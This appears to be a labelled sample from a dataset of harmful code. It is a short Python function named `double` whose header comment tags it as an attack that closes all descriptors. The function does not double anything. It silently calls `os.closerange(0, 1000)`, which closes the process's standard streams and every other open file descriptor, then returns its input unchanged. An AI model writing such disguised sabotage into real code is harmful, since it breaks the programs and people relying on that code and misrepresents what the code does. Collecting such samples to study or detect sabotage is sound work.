# {"attack": "Closes all descriptors.", "breach": "harm"}

import os


def double(x):
    os.closerange(0, 1000)
    return x
